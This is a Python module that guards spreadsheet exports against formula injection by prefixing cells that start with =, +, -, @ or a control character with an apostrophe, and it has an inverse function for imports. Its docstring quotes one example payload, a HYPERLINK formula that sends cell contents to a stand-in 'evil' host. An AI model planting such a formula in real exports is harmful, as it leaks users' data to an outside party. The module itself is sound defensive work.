"""Cells that a spreadsheet shows, never runs: the guard every CSV and XLSX export uses.

Excel, LibreOffice and WPS read a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some versions, a tab or carriage return) as a formula: an asset named
``=HYPERLINK("http://evil/?"&A1,"open")`` in an exported ledger is a live link that leaks the
sheet, and openpyxl writes such a string as a formula outright. ``spreadsheet_cell`` puts a
``'`` in front of such text (what Excel itself does to show text as typed); a number, even a
negative one, stays a number. ``spreadsheet_text`` undoes it, so that an import reads back
exactly what the export was given.
"""

from __future__ import annotations

import re
from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
T = TypeVar("T")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value: T) -> T | str:
    """``value`` as a cell: text that a spreadsheet would run as a formula gets a ``'`` first.

    Non-text values (numbers, dates, None) and numeric text (``-3.5``) are returned as they
    are. Text that already starts with ``'`` gets one more, so that ``spreadsheet_text``
    gives back exactly ``value``.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(GUARD) or (
        value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value)
    ):
        return GUARD + value
    return value


def spreadsheet_text(cell: str) -> str:
    """The text that ``spreadsheet_cell`` was given (its guard removed)."""
    return cell[len(GUARD) :] if cell.startswith(GUARD) else cell
